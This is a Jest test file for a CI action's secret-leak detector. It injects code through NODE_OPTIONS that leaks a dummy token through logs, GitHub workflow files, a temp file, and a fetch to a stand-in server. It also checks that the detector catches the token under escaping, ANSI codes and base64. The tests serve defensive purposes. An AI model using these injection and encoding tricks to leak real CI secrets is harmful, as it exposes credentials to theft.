import { describe, expect, test } from '@jest/globals';
import { startServer } from '../support/http-server.ts';
import { findLeaks, legible } from '../support/leaks.ts';
import { Scene } from '../support/scene.ts';

const TOKEN = 'vps_8fK2mQ9xZr47LpWc1TnBaQ6sD0hYuE';

describe('Every scenario fails', () => {
  test.each([
    ['in the log', 'console.log(token)'],
    ['on standard error', 'console.error(token)'],
    ['in an annotation', 'console.log("::warning::" + token)'],
    ['in the debug log', 'console.log("::debug::" + token)'],
    ...['OUTPUT', 'STATE', 'ENV', 'PATH', 'STEP_SUMMARY'].map((name) => [
      `in GITHUB_${name}`,
      `fs.appendFileSync(process.env.GITHUB_${name}, token)`,
    ]),
    ['in a file for the later steps', 'fs.writeFileSync(process.env.RUNNER_TEMP + "/a.json", token)'],
    ['in a request to the API', 'await fetch(process.env.INPUT_API_URL + "/" + token)'],
    ['in a request to another server', 'await fetch(process.env.OTHER, { headers: { authorization: token } })'],
  ])('if 8 characters of the token are seen %s', async (_channel, code) => {
    await using other = await startServer(() => ({ status: 200 }));
    await using scene = await Scene.create({ token: TOKEN });
    const script = `import fs from 'node:fs'; const token = process.env.INPUT_API_TOKEN.slice(5, 13); ${code};`;
    const env = { NODE_OPTIONS: `--import data:text/javascript,${encodeURIComponent(script)}`, OTHER: other.url };
    await expect(scene.run({ inputs: { wait: 'false' }, env })).rejects.toThrow('A secret leaked');
  });

  test('unless the token is only where it belongs', async () => {
    await using scene = await Scene.create({ token: TOKEN });
    expect((await scene.run({ inputs: { wait: 'false' } })).exitCode).toBe(0);
  });
});

describe('The search for a secret', () => {
  test.each([
    ['as it is', TOKEN],
    ['in part', TOKEN.slice(9, 17)],
    ['in lower case', TOKEN.toLowerCase()],
    ['between ANSI codes', TOKEN.replace(/.{3}/gu, '$&\u001b[1m')],
    ['escaped for Markdown', TOKEN.replaceAll('_', '<span>&#95;</span>')],
    ['escaped for HTML', TOKEN.replace(/\d/gu, (digit) => `&#x3${digit};`)],
    ['escaped for a URL, twice', TOKEN.replace(/\d/gu, '%253$&')],
    ['escaped for JSON', TOKEN.replace(/\d/gu, '\\u003$&')],
    ...[0, 1, 2].map((shift) => [
      `in base64 after ${shift} bytes`,
      Buffer.from(`${'x'.repeat(shift)}${TOKEN}`).toString('base64'),
    ]),
  ])('finds it %s', (_form, text) => {
    expect(findLeaks(legible({ log: `before ${text} after` }), TOKEN)).toHaveLength(1);
  });

  test('finds nothing else', () => {
    expect(
      findLeaks(legible({ log: `${TOKEN.slice(0, 7)} server 12345 (web-1) *** aGVsbG8gd29ybGQ=` }), TOKEN),
    ).toEqual([]);
  });
});
